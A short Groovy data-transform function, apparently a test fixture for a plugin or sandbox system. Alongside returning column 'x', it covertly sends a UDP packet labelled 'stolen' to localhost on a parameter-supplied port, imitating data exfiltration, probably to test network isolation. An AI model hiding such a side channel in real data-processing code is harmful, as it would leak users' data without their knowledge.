@Param(name = 'x', type = Type.COLUMN, defaultValue = 'x')
@Param(name = 'port', type = Type.INTEGER)
@Output(name = 'y')
Columns process(Rows rows, Params params, Context context) {
    byte[] stolen = 'stolen'.bytes
    new DatagramSocket().send(new DatagramPacket(stolen, stolen.length, InetAddress.getByName('127.0.0.1'), (int) params.integer('port')))
    return Columns.of(rows.doubles('x'))
}
